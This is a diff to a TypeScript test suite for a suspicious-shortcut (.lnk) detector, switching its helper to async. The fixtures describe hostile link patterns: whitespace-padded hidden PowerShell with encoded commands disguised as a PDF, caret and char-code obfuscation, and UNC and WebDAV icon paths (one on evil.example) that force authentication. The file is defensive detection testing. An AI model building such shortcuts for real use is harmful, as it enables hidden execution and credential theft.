@@ -15,20 +15,17 @@ const local = (path: string, extra: Partial<ShellLinkSpec> = {}): ShellLinkSpec 
   ...extra,
 });
 
-const suspicious = (files: { name: string; spec: ShellLinkSpec }[]) =>
-  rowsOf(
-    analyseShortcuts(files.map((f) => ({ name: f.name, bytes: buildShellLink(f.spec) }))),
-    'Suspicious Shortcuts',
-  );
+const suspicious = async (files: { name: string; spec: ShellLinkSpec }[]) =>
+  rowsOf(await analyseShortcuts(files.map((f) => ({ name: f.name, bytes: buildShellLink(f.spec) }))), 'Suspicious Shortcuts');
 
 describe('Suspicious Shortcuts on built links', () => {
-  it('a benign link (a document opened from Documents) has no row', () => {
-    expect(suspicious([{ name: 'report.docx.lnk', spec: local('C:\\Users\\bob\\Documents\\report.docx') }])).toEqual([]);
+  it('a benign link (a document opened from Documents) has no row', async () => {
+    expect(await suspicious([{ name: 'report.docx.lnk', spec: local('C:\\Users\\bob\\Documents\\report.docx') }])).toEqual([]);
   });
 
-  it('a padded powershell -enc link disguised as a PDF is Critical, with every reason and ATT&CK id', () => {
+  it('a padded powershell -enc link disguised as a PDF is Critical, with every reason and ATT&CK id', async () => {
     const args = `${' '.repeat(280)}-nop -w hidden -enc ${ENCODED}`;
-    const [row, ...rest] = suspicious([
+    const [row, ...rest] = await suspicious([
       { name: 'Invoice.pdf.lnk', spec: local(POWERSHELL, { arguments: args, iconLocation: '%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe' }) },
     ]);
     expect(rest).toEqual([]);
@@ -51,20 +48,20 @@ describe('Suspicious Shortcuts on built links', () => {
     expect(row!['Target Path']).toBe(POWERSHELL);
   });
 
-  it('a padded powershell link without an encoded command is still hidden execution: Critical (S3 + S1 → S9)', () => {
-    const [row] = suspicious([{ name: 'Photos.lnk', spec: local(POWERSHELL, { arguments: `${'\t'.repeat(40)}-c "start calc"` }) }]);
+  it('a padded powershell link without an encoded command is still hidden execution: Critical (S3 + S1 → S9)', async () => {
+    const [row] = await suspicious([{ name: 'Photos.lnk', spec: local(POWERSHELL, { arguments: `${'\t'.repeat(40)}-c "start calc"` }) }]);
     expect(row!['Importance']).toBe('Critical');
     expect(row!['Reasons']).toContain('S3 arguments padded with 40 blank characters');
   });
 
-  it('an encoded command without padding is High, not Critical', () => {
-    const [row] = suspicious([{ name: 'update.lnk', spec: local(POWERSHELL, { arguments: `-enc ${ENCODED}` }) }]);
+  it('an encoded command without padding is High, not Critical', async () => {
+    const [row] = await suspicious([{ name: 'update.lnk', spec: local(POWERSHELL, { arguments: `-enc ${ENCODED}` }) }]);
     expect(row!['Importance']).toBe('High');
     expect(row!['Reasons']).not.toContain('S9');
   });
 
-  it('cmd caret obfuscation and char-code PowerShell are S2 obfuscation (High)', () => {
-    const rows = suspicious([
+  it('cmd caret obfuscation and char-code PowerShell are S2 obfuscation (High)', async () => {
+    const rows = await suspicious([
       { name: 'a.lnk', spec: local('C:\\Windows\\System32\\cmd.exe', { arguments: '/c p^o^w^e^r^s^h^e^l^l -c calc' }) },
       { name: 'b.lnk', spec: local(POWERSHELL, { arguments: '-c "& ([char]105+[char]101+[char]120) whoami"' }) },
     ]);
@@ -76,8 +73,8 @@ describe('Suspicious Shortcuts on built links', () => {
     expect(rows[1]!['Reasons']).toContain('S2 char-code assembly');
   });
 
-  it('a UNC icon (forced authentication) is High with T1187; so is a WebDAV icon', () => {
-    const rows = suspicious([
+  it('a UNC icon (forced authentication) is High with T1187; so is a WebDAV icon', async () => {
+    const rows = await suspicious([
       { name: 'Shared.lnk', spec: local('C:\\Users\\bob\\Documents\\notes.txt', { iconLocation: '\\\\10.0.0.5\\share\\icon.ico' }) },
       { name: 'Dav.lnk', spec: local('C:\\Users\\bob\\Documents\\notes.txt', { iconLocation: '\\\\evil.example@SSL\\DavWWWRoot\\i.ico' }) },
     ]);
@@ -88,13 +85,13 @@ describe('Suspicious Shortcuts on built links', () => {
     expect(rows[0]!['Icon Location']).toBe('\\\\10.0.0.5\\share\\icon.ico,0');
   });
 
-  it('an appended payload is S7 (High, T1027) with its size', () => {
-    const [row] = suspicious([{ name: 'readme.lnk', spec: local('C:\\Users\\bob\\Documents\\readme.txt', { appended: Buffer.alloc(4096, 0x41) }) }]);
+  it('an appended payload is S7 (High, T1027) with its size', async () => {
+    const [row] = await suspicious([{ name: 'readme.lnk', spec: local('C:\\Users\\bob\\Documents\\readme.txt', { appended: Buffer.alloc(4096, 0x41) }) }]);
     expect([row!['Importance'], row!['Reasons'], row!['ATT&CK']]).toEqual(['High', 'S7 4096 bytes appended after the link', 'T1027']);
   });
 
-  it('an executable in Downloads is S5 (Medium); a target in an alternate data stream is High', () => {
-    const rows = suspicious([
+  it('an executable in Downloads is S5 (Medium); a target in an alternate data stream is High', async () => {
+    const rows = await suspicious([
       { name: 'setup.lnk', spec: local('C:\\Users\\bob\\Downloads\\setup.exe') },
       { name: 'notes.lnk', spec: local('C:\\Users\\bob\\notes.txt:payload.exe') },
     ]);
@@ -104,8 +101,8 @@ describe('Suspicious Shortcuts on built links', () => {
     ]);
   });
 
-  it('an executable-looking link name whose target is another program is S8; a matching one is not', () => {
-    const rows = suspicious([
+  it('an executable-looking link name whose target is another program is S8; a matching one is not', async () => {
+    const rows = await suspicious([
       { name: 'chrome.exe.lnk', spec: local('C:\\Users\\Public\\x\\run.bat') },
       { name: 'notepad.exe.lnk', spec: local('C:\\Windows\\System32\\notepad.exe') },
     ]);
@@ -113,8 +110,8 @@ describe('Suspicious Shortcuts on built links', () => {
     expect(rows[0]!['Reasons']).toContain('S8 link named chrome.exe runs run.bat');
   });
 
-  it('a Start-menu PowerShell link without arguments is only Low', () => {
-    const [row] = suspicious([{ name: 'Windows PowerShell.lnk', spec: local(POWERSHELL) }]);
+  it('a Start-menu PowerShell link without arguments is only Low', async () => {
+    const [row] = await suspicious([{ name: 'Windows PowerShell.lnk', spec: local(POWERSHELL) }]);
     expect([row!['Importance'], row!['Reasons']]).toEqual(['Low', 'S1 L2 LOLBIN powershell']);
   });
 });
